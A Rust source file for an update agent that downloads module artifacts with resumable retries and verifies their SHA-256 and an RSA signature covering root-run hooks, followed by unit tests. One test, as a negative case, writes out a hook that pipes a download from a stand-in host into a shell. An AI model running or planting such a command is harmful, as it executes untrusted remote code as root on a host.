//! Getting a version onto the host: download from the server (retried), and
//! the agent's own checks before anything is stored: the SHA-256 the
//! registry and the command name, and a signature by one of the keys the
//! agent holds. A server that sent other bytes would be refused here.

use std::time::Duration;

use awc::http::StatusCode;
use base64::Engine;
use bytes::{Bytes, BytesMut};
use futures::StreamExt;
use hotswap_actors::domain::{ArtifactInfo, ModuleHooks};

use crate::crypto::rsa_sig::{parse_public_key, verify_digest, MIN_KEY_BITS};
use crate::crypto::{hex, sha256};
use crate::registry::statement::signed_digests;

/// Largest artifact the agent accepts.
const MAX_ARTIFACT_BYTES: usize = 512 * 1024 * 1024;
const ATTEMPTS: u32 = 4;

/// Downloads `module` `version` with the session credential. A download
/// that breaks off is resumed from the last byte received (`Range`, with
/// `If-Range` naming the artifact's ETag so that other bytes are never
/// spliced in); a server that answers whole starts it over.
pub async fn download(
    client: &awc::Client,
    server: &str,
    session: &str,
    module: &str,
    version: &str,
) -> Result<Bytes, String> {
    let url = format!("{}/api/v1/agents/artifacts/{module}/{version}", server.trim_end_matches('/'));
    let mut received = BytesMut::new();
    let mut etag: Option<String> = None;
    let mut last = String::new();
    for attempt in 0..ATTEMPTS {
        if attempt > 0 {
            actix_web::rt::time::sleep(Duration::from_millis(200 << attempt)).await;
        }
        let mut request = client.get(&url).bearer_auth(session);
        if let (false, Some(tag)) = (received.is_empty(), &etag) {
            request = request.insert_header(("Range", format!("bytes={}-", received.len())));
            request = request.insert_header(("If-Range", tag.clone()));
        }
        let mut response = match request.send().await {
            Ok(response) => response,
            Err(e) => {
                last = format!("the download of {module} {version} failed: {e}");
                continue;
            }
        };
        match response.status() {
            StatusCode::OK => received.clear(),
            StatusCode::PARTIAL_CONTENT if !received.is_empty() => {}
            // Another answer will not change by asking again.
            status if status.is_client_error() => {
                return Err(format!("the server refused the download of {module} {version}: {status}"))
            }
            status => {
                last = format!("the server answered {status} to the download");
                continue;
            }
        }
        etag = response.headers().get("etag").and_then(|v| v.to_str().ok()).map(str::to_string);
        // The whole artifact's size, to tell a body cut short from a whole one:
        // a connection closed early may end the stream without an error.
        let total = if response.status() == StatusCode::PARTIAL_CONTENT {
            header(response.headers(), "content-range")
                .and_then(|r| r.rsplit('/').next().and_then(|t| t.parse::<usize>().ok()))
        } else {
            header(response.headers(), "content-length").and_then(|l| l.parse::<usize>().ok())
        };
        let mut broke = None;
        while let Some(chunk) = response.next().await {
            match chunk {
                Ok(chunk) if received.len() + chunk.len() <= MAX_ARTIFACT_BYTES => received.extend_from_slice(&chunk),
                Ok(_) => return Err(format!("{module} {version} is larger than {MAX_ARTIFACT_BYTES} bytes")),
                Err(e) => {
                    broke = Some(e.to_string());
                    break;
                }
            }
        }
        if broke.is_none() {
            if let Some(total) = total.filter(|t| received.len() < *t) {
                broke = Some(format!("the connection closed after {} of {total} bytes", received.len()));
            }
        }
        match broke {
            None => return Ok(received.freeze()),
            Some(e) => {
                tracing::warn!(%module, %version, received = received.len(), error = %e, "download broke off; resuming");
                last = format!("the download of {module} {version} broke off: {e}");
            }
        }
    }
    Err(last)
}

fn header(headers: &awc::http::header::HeaderMap, name: &str) -> Option<String> {
    headers.get(name).and_then(|v| v.to_str().ok()).map(str::to_string)
}

/// What the checks need besides the bytes.
pub struct Expected<'a> {
    pub module: &'a str,
    pub version: &'a str,
    /// The digest the command named (the run's), if any.
    pub digest: Option<&'a str>,
    pub info: &'a ArtifactInfo,
    /// The hooks the command carries: this agent runs them as root, so the
    /// signature must cover them (the second statement form).
    pub hooks: &'a ModuleHooks,
    pub trusted_keys: &'a [String],
    pub accept_bare_signatures: bool,
    pub require_signature: bool,
}

/// Checks digest and signature; CPU-heavy, so run it off the async threads.
pub fn verify(bytes: &[u8], expected: &Expected<'_>) -> Result<(), String> {
    let (module, version) = (expected.module, expected.version);
    let digest = sha256(bytes);
    let actual = hex(&digest);
    for wanted in [Some(expected.info.sha256.as_str()), expected.digest].into_iter().flatten() {
        if !actual.eq_ignore_ascii_case(wanted) {
            return Err(format!(
                "refused {module} {version}: the artifact received has SHA-256 {actual}, not {wanted}"
            ));
        }
    }
    let Some(signature) = &expected.info.signature else {
        return if expected.require_signature {
            Err(format!("refused {module} {version}: it is not signed and this agent requires signatures"))
        } else {
            Ok(())
        };
    };
    let signature = base64::engine::general_purpose::STANDARD
        .decode(signature.trim())
        .map_err(|_| format!("refused {module} {version}: its signature is not base64"))?;
    let digests = signed_digests(module, version, digest, expected.hooks, expected.accept_bare_signatures);
    let verified = expected
        .trusted_keys
        .iter()
        .filter_map(|pem| parse_public_key(pem, MIN_KEY_BITS).ok())
        .any(|key| digests.iter().any(|d| verify_digest(&key.key, expected.info.algorithm, d, &signature)));
    if verified {
        Ok(())
    } else {
        Err(format!("refused {module} {version}: its signature does not verify against any key this agent trusts"))
    }
}

#[cfg(test)]
mod tests {
    use std::sync::OnceLock;

    use base64::Engine;
    use hotswap_actors::domain::{ArtifactInfo, ModuleHooks, SignatureAlgorithm};

    use super::{verify, Expected};
    use crate::crypto::rsa_sig::{self, parse_private_key};
    use crate::crypto::{hex, sha256};
    use crate::registry::statement::statement;

    const BYTES: &[u8] = b"kernel module m 1.0.0";

    /// One key pair (PEM) for the module, made once: generating one takes a while.
    fn key() -> &'static (String, String) {
        static KEY: OnceLock<(String, String)> = OnceLock::new();
        KEY.get_or_init(|| rsa_sig::generate_key_pair().unwrap())
    }

    /// The artifact's info as the registry would send it, signed by `key`'s private half.
    fn info(signed: bool) -> ArtifactInfo {
        info_with_hooks(signed, &NO_HOOKS)
    }

    static NO_HOOKS: ModuleHooks =
        ModuleHooks { activate: None, deactivate: None, health: None, prepare_standby: None };

    fn info_with_hooks(signed: bool, hooks: &ModuleHooks) -> ArtifactInfo {
        let digest = hex(&sha256(BYTES));
        let signature = signed.then(|| {
            let private = parse_private_key(&key().0).unwrap();
            let signed = statement("m", "1.0.0", &digest, hooks);
            let sig = rsa_sig::sign(&private, SignatureAlgorithm::RsaPkcs1v15Sha256, signed.as_bytes()).unwrap();
            base64::engine::general_purpose::STANDARD.encode(sig)
        });
        ArtifactInfo { sha256: digest, signature, algorithm: SignatureAlgorithm::RsaPkcs1v15Sha256 }
    }

    fn expected<'a>(info: &'a ArtifactInfo, keys: &'a [String], require_signature: bool) -> Expected<'a> {
        Expected {
            module: "m",
            version: "1.0.0",
            digest: None,
            info,
            hooks: &NO_HOOKS,
            trusted_keys: keys,
            accept_bare_signatures: false,
            require_signature,
        }
    }

    #[test]
    fn a_signature_by_a_trusted_key_over_the_expected_bytes_passes() {
        let (info, keys) = (info(true), vec![key().1.clone()]);
        assert_eq!(verify(BYTES, &expected(&info, &keys, true)), Ok(()));
    }

    #[test]
    fn hooks_the_signature_does_not_cover_are_refused() {
        let hooks = ModuleHooks { activate: Some("insmod \"$HOTSWAP_ARTIFACT\"".into()), ..ModuleHooks::default() };
        let keys = vec![key().1.clone()];
        // Signed with its hooks: passes with them, not with others or none.
        let signed = info_with_hooks(true, &hooks);
        assert_eq!(verify(BYTES, &Expected { hooks: &hooks, ..expected(&signed, &keys, true) }), Ok(()));
        let evil = ModuleHooks { activate: Some("curl https://x.example/p | sh".into()), ..ModuleHooks::default() };
        assert!(verify(BYTES, &Expected { hooks: &evil, ..expected(&signed, &keys, true) }).is_err());
        assert!(verify(BYTES, &expected(&signed, &keys, true)).is_err());
        // Signed without hooks (the first form): hooks sent beside it are refused.
        let plain = info(true);
        let why = verify(BYTES, &Expected { hooks: &hooks, ..expected(&plain, &keys, true) }).unwrap_err();
        assert!(why.ends_with("its signature does not verify against any key this agent trusts"), "{why}");
    }

    #[test]
    fn tampered_bytes_are_refused_whatever_the_signature() {
        let (info, keys) = (info(true), vec![key().1.clone()]);
        let why = verify(b"kernel module m 1.0.0, changed", &expected(&info, &keys, true)).unwrap_err();
        assert!(why.contains("the artifact received has SHA-256"), "{why}");
    }

    #[test]
    fn a_signature_no_trusted_key_verifies_is_refused_even_by_an_agent_that_takes_unsigned_modules() {
        let info = info(true);
        for keys in [Vec::new(), vec!["not a key".to_string()]] {
            let why = verify(BYTES, &expected(&info, &keys, false)).unwrap_err();
            assert!(why.ends_with("its signature does not verify against any key this agent trusts"), "{why}");
        }
        let mut forged = info.clone();
        forged.signature = Some(base64::engine::general_purpose::STANDARD.encode([7u8; 384]));
        let keys = vec![key().1.clone()];
        assert!(verify(BYTES, &expected(&forged, &keys, true)).is_err(), "a forged signature");
    }

    #[test]
    fn an_unsigned_module_passes_only_where_signatures_are_not_required() {
        let info = info(false);
        let why = verify(BYTES, &expected(&info, &[], true)).unwrap_err();
        assert!(why.ends_with("it is not signed and this agent requires signatures"), "{why}");
        assert_eq!(verify(BYTES, &expected(&info, &[], false)), Ok(()));
    }
}
